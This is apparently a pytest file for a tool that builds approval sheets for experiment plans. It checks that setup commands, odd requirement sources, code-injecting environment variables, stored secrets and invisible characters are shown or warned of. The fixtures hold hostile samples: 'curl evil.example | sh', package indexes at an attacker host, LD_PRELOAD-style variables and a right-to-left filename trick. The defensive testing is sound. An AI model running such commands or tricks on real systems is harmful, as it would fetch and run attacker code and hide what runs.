"""The sheet that an approval is given on: all that would run is on it."""

import json

import pytest

from matrices import Environment, Plan, Setting
from reproduce.report.as_json import plan_json
from reproduce.report.look import Look
from reproduce.report.model import PlanAccount
from reproduce.report.sheets import plan_text
from reproduce.testing.plans import two_arm_plan

PLAIN_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def plan_with(treatment: dict[str, object], control: dict[str, object], **more: object) -> Plan:
    plan = two_arm_plan(12)
    conditions = tuple(
        condition.model_copy(update=update)
        for condition, update in zip(plan.conditions, (treatment, control), strict=True)
    )
    return plan.model_copy(update={"conditions": conditions, **more})


def env(**variables: str) -> tuple[Setting, ...]:
    return tuple(Setting(name=name, value=value) for name, value in variables.items())


def shown(plan: Plan) -> str:
    return " ".join(plan_text(PlanAccount(plan), Look(120)).split())


def test_setup_commands_and_odd_requirements_are_shown() -> None:
    text = (
        "pytest==8.0 # a comment\n\n# more\n--index-url https://evil.example/simple\n./vendored\n"
    )
    text += "tool @ git+https://evil.example/tool\nfoo.whl\nattrs>=23,<25 ; python_version < '4'\n"
    environment = Environment(requirements=text, setup=(("sh", "-c", "curl evil.example | sh"),))
    both = {"environment": 0}

    plan = plan_with(both, both, environments=(environment,))
    sheet = shown(plan)

    assert "setup sh -c 'curl evil.example | sh'" in sheet
    assert "requirements 6 lines, sha256 " in sheet
    for line in (
        "--index-url https://evil.example/simple",
        "./vendored",
        "tool @ git+https://evil.example/tool",
        "foo.whl",
    ):
        assert f"not from the index alone: {line}" in sheet
    assert "alone: pytest" not in sheet
    assert "alone: attrs" not in sheet
    (brief,) = json.loads(plan_json(PlanAccount(plan)))["requirements"]
    assert (brief["lines"], len(brief["notable"])) == (6, 4)


def test_a_requirement_that_goes_on_in_the_next_line_hides_no_option() -> None:
    environment = Environment(requirements="attrs \\\n --config-settings=x=y\n")

    assert "alone: attrs --config-settings=x=y" in shown(
        plan_with({"environment": 0}, {"environment": 0}, environments=(environment,))
    )


def test_what_differs_between_the_arms_is_told_by_arm() -> None:
    more = (Setting(name="args", value='["--evil"]'), Setting(name="env", value='{"N":"8"}'))
    plan = plan_with(
        {"env": env(A="1", B="2"), "knobs": more, "cmd": ("probe", "x"), "timeout_us": 2_000_000},
        {"env": env(A="1"), "timeout_us": 1_000_000},
    )

    sheet = shown(plan)

    assert "command treatment: probe x (time limit 2 s)" in sheet
    assert "command control: probe (time limit 1 s)" in sheet
    assert "env A=1 env treatment: B=2 · N=8 env control: nothing more" in sheet
    assert "knobs treatment: args='[\"--evil\"]' knobs control: nothing more" in sheet


def test_the_ordinary_variables_take_one_line_without_a_warning() -> None:
    both = {"env": env(LANG="C.UTF-8", PATH=f"/home/me/bin:{PLAIN_PATH}")}

    sheet = shown(plan_with(both, both))

    assert "env LANG=C.UTF-8 · PATH of /home/me/bin, 6 of the system " in sheet
    assert "warning" not in sheet


@pytest.mark.parametrize(
    "name", ["LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "ENV", "PYTHONSTARTUP", "PYTHONPATH"]
)
def test_variables_that_run_other_code_are_warned_of(name: str) -> None:
    plan = plan_with({"knobs": (Setting(name="env", value=json.dumps({name: "x"})),)}, {})

    warning = f"{name} decides what code runs beside the command"
    assert f"warning: {warning}" in shown(plan)
    assert json.loads(plan_json(PlanAccount(plan)))["warnings"] == [warning]


@pytest.mark.parametrize(
    ("treatment", "control"),
    [
        ({"env": env(PATH="bin:/usr/bin")}, {"env": env(PATH="bin:/usr/bin")}),
        ({"env": env(PATH="{src}/bin")}, {"env": env(PATH="{src}/bin")}),
        ({"env": env(PATH="")}, {"env": env(PATH="")}),
        ({"env": env(PATH="/evil")}, {"env": env(PATH="/usr/bin")}),
        ({"knobs": (Setting(name="env", value='{"PATH":"/evil"}'),)}, {"env": env(PATH="/bin")}),
    ],
)
def test_a_path_that_was_declared_is_warned_of(
    treatment: dict[str, object], control: dict[str, object]
) -> None:
    assert "warning: PATH" in shown(plan_with(treatment, control))


@pytest.mark.parametrize("name", ["GH_TOKEN", "API_KEY", "MY_SECRET", "DB_PASSWORD"])
def test_secrets_are_warned_of(name: str) -> None:
    plan = plan_with({"env": env(**{name: "x"})}, {"env": env(**{name: "x"})})

    assert f"warning: if {name} is a secret, its value is now stored in the plan" in shown(plan)


def test_long_and_invisible_values_are_cut_and_escaped() -> None:
    both = {"env": env(LONG="x" * 500, ODD="a\x1b[2Jb\u202ec", WORDS="a · B=2")}

    sheet = shown(plan_with(both, both))

    assert f"LONG={'x' * 60}… (500 characters)" in sheet
    assert 'ODD="a\\u001b[2Jb\\u202ec"' in sheet
    assert "WORDS='a · B=2'" in sheet


def test_an_invisible_character_of_a_command_is_shown() -> None:
    both = {"cmd": ("sh", "-c", "echo \u202egnp.exe")}

    assert 'command ["sh", "-c", "echo \\u202egnp.exe"]' in shown(plan_with(both, both))
